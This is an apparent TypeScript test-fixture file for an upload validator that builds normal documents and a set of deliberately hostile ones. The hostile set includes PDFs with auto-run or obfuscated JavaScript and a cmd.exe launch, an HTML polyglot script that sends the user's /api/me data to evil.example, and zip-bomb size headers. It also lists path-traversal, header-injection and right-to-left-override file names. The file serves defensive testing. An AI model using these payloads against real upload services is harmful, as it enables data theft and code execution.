import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import PDFDocument from 'pdfkit';
import { PNG } from 'pngjs';

/** Real files of every type, made in the test (JPEG: a scan at 10 dpi, committed as fixtures/scan.jpg). */
/** A PDF of that many pages; with a user password, one that cannot be opened without it. */
export function pdfBytes(pages: number, userPassword?: string): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ size: 'A4', ...(userPassword ? { userPassword } : {}) });
    const chunks: Buffer[] = [];
    doc.on('data', (c: Buffer) => chunks.push(c));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
    for (let i = 1; i <= pages; i++) {
      if (i > 1) doc.addPage();
      doc.text(`Page ${i}`);
    }
    doc.end();
  });
}

export function pngBytes(): Buffer {
  const png = new PNG({ width: 4, height: 3 });
  png.data.fill(200);
  return PNG.sync.write(png);
}

export function jpegBytes(): Buffer {
  return readFileSync(new URL('./fixtures/scan.jpg', import.meta.url));
}

const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="MAIN"/>
</Relationships>`;

function contentTypes(part: string, type: string): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/${part}" ContentType="${type}"/>
</Types>`;
}

/** A minimal but valid Word document: content types, package relationship, one paragraph. */
export function docxBytes(): Buffer {
  const part = 'word/document.xml';
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        contentTypes(
          part,
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
      ),
      '_rels/.rels': strToU8(RELS.replace('MAIN', part)),
      [part]: strToU8(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
          '<w:body><w:p><w:r><w:t>Tờ khai</w:t></w:r></w:p></w:body></w:document>',
      ),
    }),
  );
}

/** A minimal but valid workbook: one empty sheet. */
export function xlsxBytes(): Buffer {
  const part = 'xl/workbook.xml';
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        contentTypes(part, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      ),
      '_rels/.rels': strToU8(RELS.replace('MAIN', part)),
      [part]: strToU8(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
      ),
    }),
  );
}

export function plainZipBytes(): Buffer {
  return Buffer.from(zipSync({ 'readme.txt': strToU8('not an office document') }));
}

/** The start of a Windows executable (DOS stub + PE header), as a renamed .exe would arrive. */
export function exeBytes(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

export function htmlBytes(): Buffer {
  return Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>');
}

// ---- Hostile files (issue 11): each is what an attacker uploads, built byte by byte. ----

/** A hand-made PDF from object bodies (numbered from 1, object 1 the catalogue), with a correct xref table. */
export function rawPdf(objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let size = parts[0]!.length;
  objects.forEach((body, i) => {
    offsets.push(size);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(chunk);
    size += chunk.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref, 'latin1')]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** Opens with JavaScript: `/OpenAction` pointing at a `/S /JavaScript /JS` action. */
export function pdfWithOpenActionJs(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    PAGES,
    PAGE,
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.exportDataObject\\({cName: 'a'}\\);) >>",
  ]);
}

/** The same action hidden twice over: inside a compressed object stream, its key spelt `/J#53`. */
export function pdfWithHiddenJs(): Buffer {
  const inner = "<< /Type /Action /S /JavaScript /J#53 (app.launchURL\\('http://evil.example'\\)) >>";
  const header = '4 0 ';
  const data = deflateSync(Buffer.from(header + inner, 'latin1'));
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    PAGES,
    PAGE,
    Buffer.concat([
      Buffer.from(
        `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
        'latin1',
      ),
      data,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  ]);
}

/** Starts a program when opened. */
export function pdfWithLaunch(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>',
    PAGES,
    PAGE,
  ]);
}

/** Carries a file inside (`/EmbeddedFiles` name tree). */
export function pdfWithEmbeddedFile(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
    PAGES,
    PAGE,
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ]);
}

export const HTML_TAIL = Buffer.from(
  '\n<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>\n',
);

/** A real PDF with an HTML page appended after its `%%EOF` (a PDF/HTML polyglot). */
export async function pdfWithAppendedHtml(): Promise<Buffer> {
  return Buffer.concat([await pdfBytes(1), HTML_TAIL]);
}

/** A real PNG (or JPEG) with an HTML page after its end marker. */
export function pngWithTrailingHtml(): Buffer {
  return Buffer.concat([pngBytes(), HTML_TAIL]);
}
export function jpegWithTrailingHtml(): Buffer {
  return Buffer.concat([jpegBytes(), HTML_TAIL]);
}

/** Offset of the central directory record of `name` in a zip (its local header is found through it). */
function centralEntry(zip: Buffer, name: string): number {
  for (let p = zip.length - 22; p >= 0; p--) {
    if (zip.readUInt32LE(p) !== 0x02014b50) continue;
    const len = zip.readUInt16LE(p + 28);
    if (zip.toString('utf8', p + 46, p + 46 + len) === name) return p;
  }
  throw new Error(`no ${name} in the zip`);
}

/** Rewrites the declared uncompressed size of one member, in the central directory and its local header. */
function declareSize(zip: Buffer, name: string, size: number): Buffer {
  const out = Buffer.from(zip);
  const central = centralEntry(out, name);
  out.writeUInt32LE(size, central + 24);
  out.writeUInt32LE(size, out.readUInt32LE(central + 42) + 22);
  return out;
}

/**
 * A DOCX whose central directory says `word/document.xml` holds 1 GB. Nothing of the kind is allocated: the header
 * is crafted on a small, otherwise valid document (what a zip bomb's index looks like to a reader that trusts it).
 */
export function docxDeclaringGigabyte(): Buffer {
  return declareSize(docxBytes(), 'word/document.xml', 1024 * 1024 * 1024);
}

/** The same on a workbook (`xl/workbook.xml` declared at 1 GB): what an Excel import is handed. */
export function xlsxDeclaringGigabyte(): Buffer {
  return declareSize(xlsxBytes(), 'xl/workbook.xml', 1024 * 1024 * 1024);
}

/** A DOCX that under-declares: `word/document.xml` claims 10 bytes and inflates to more. */
export function docxUnderDeclared(): Buffer {
  return declareSize(docxBytes(), 'word/document.xml', 10);
}

/** An honest but extreme DOCX: 8 MB of zeros that compress about a thousandfold. */
export function docxHighRatio(): Buffer {
  const part = 'word/document.xml';
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        contentTypes(
          part,
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
      ),
      '_rels/.rels': strToU8(RELS.replace('MAIN', part)),
      [part]: strToU8('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'),
      'word/media/padding.bin': new Uint8Array(8 * 1024 * 1024),
    }),
  );
}

/** File names as an attacker sends them, with what must be stored for a PDF. */
export const HOSTILE_NAMES = [
  { sent: '../../../etc/passwd.pdf', stored: 'passwd.pdf' },
  { sent: '..\\..\\Windows\\win.ini.pdf', stored: 'win.ini.pdf' },
  { sent: 'to-khai.pdf\r\nSet-Cookie: mc_session=x', stored: 'to-khai.pdfSet-Cookie mc_session=x.pdf' },
  // Shown by a bidi-aware screen as "hoa-don-exe.pdf"; it is an .exe name.
  { sent: 'hoa-don-\u202Efdp.exe', stored: 'hoa-don-fdp.exe.pdf' },
  { sent: 'giay\u200B\u2066to\u2069\u0007.pdf', stored: 'giayto.pdf' },
  { sent: 'Giấy khai sinh – bản sao (1).PDF', stored: 'Giấy khai sinh – bản sao (1).pdf' },
  { sent: 'CON.pdf', stored: 'CON_.pdf' },
  { sent: '...', stored: 'tep-dinh-kem.pdf' },
] as const;
